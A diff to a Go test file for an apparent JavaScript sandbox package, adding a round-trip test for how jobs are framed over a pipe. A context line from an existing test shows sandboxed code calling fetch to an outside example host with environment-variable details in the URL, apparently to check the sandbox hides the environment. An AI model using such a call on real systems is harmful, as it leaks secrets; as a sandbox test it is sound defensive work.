@@ -1,7 +1,11 @@
 package jsbox
 
 import (
+	"bufio"
+	"bytes"
 	"context"
+	"encoding/binary"
+	"encoding/json"
 	"strings"
 	"sync"
 	"testing"
@@ -63,5 +67,39 @@ fetch('https://env.example.com/?n=' + keys.length + '&s=' + (process.env.SCCG_TE
 	}
 	if len(res.Requests) != 1 || res.Requests[0].URL != "https://env.example.com/?n=0&s=none" {
 		t.Errorf("requests %v", res.Requests)
+	}
+}
+
+// TestJobFrame: a job crosses the pipe as the JSON it replaced would have
+// carried it (invalid UTF-8 coerced byte by byte), whatever its code holds.
+func TestJobFrame(t *testing.T) {
+	for _, j := range []job{
+		{Lang: "ts", Code: "const a = 'é\u2028\"\\\n';\x00", Function: "f", TimeoutMS: 5000},
+		{Lang: "", Code: "x\xff\xfey\xe2\x82", Function: "Class.m", TimeoutMS: -3},
+		{},
+	} {
+		var b bytes.Buffer
+		if err := writeJob(&b, j); err != nil {
+			t.Fatal(err)
+		}
+		var got job
+		if err := readJob(bufio.NewReader(&b), &got); err != nil {
+			t.Fatal(err)
+		}
+		jb, _ := json.Marshal(j)
+		var want job
+		if err := json.Unmarshal(jb, &want); err != nil {
+			t.Fatal(err)
+		}
+		if got != want {
+			t.Errorf("got %#v, want %#v", got, want)
+		}
+	}
+	var b bytes.Buffer
+	writeJob(&b, job{Code: "abc"})
+	cut := b.Bytes()[:b.Len()-3]
+	binary.BigEndian.PutUint32(cut, uint32(len(cut)-4))
+	if err := readJob(bufio.NewReader(bytes.NewReader(cut)), &job{}); err == nil {
+		t.Error("a frame cut short reads")
 	}
 }
